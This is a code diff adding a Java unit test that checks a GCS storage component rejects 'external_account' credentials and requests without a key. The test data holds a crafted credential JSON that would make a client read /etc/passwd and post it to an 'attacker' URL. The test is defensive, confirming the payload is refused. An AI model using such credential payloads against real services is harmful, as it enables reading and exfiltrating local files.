@@ -94,6 +94,22 @@ class GcsStorageTest {
     }
 
     @Test
+    void aRequestBringsAServiceAccountKeyOrNothing() {
+        // external_account files make the client read a local file and post it to a URL the file names.
+        String external = "{\"type\": \"external_account\", \"token_url\": \"http://attacker/\","
+                + " \"credential_source\": {\"file\": \"/etc/passwd\"}}";
+        EgressException refused = assertThrows(EgressException.class, () -> new GcsStorage().check(StorageSettings
+                .ofRequest(GcsStorage.GcsSettings.DECLARED, Map.of("bucket", "b", "credentials", external),
+                        Map.of())));
+        assertEquals("request has missing or invalid field: gcp.credentials (only service account keys are "
+                + "accepted)", refused.getMessage());
+        EgressException noKey = assertThrows(EgressException.class, () -> new GcsStorage().check(StorageSettings
+                .ofRequest(GcsStorage.GcsSettings.DECLARED, Map.of("bucket", "b"), Map.of())));
+        assertTrue(noKey.getMessage().startsWith("request has missing or invalid field: gcp.credentials (this node"
+                + " lends its own credentials to no request"), noKey.getMessage());
+    }
+
+    @Test
     void aProxyUrlMustBeAUrl() throws Exception {
         Path file = Files.writeString(dir.resolve("x.mp4"), "x");
         Map<String, String> settings = settings();
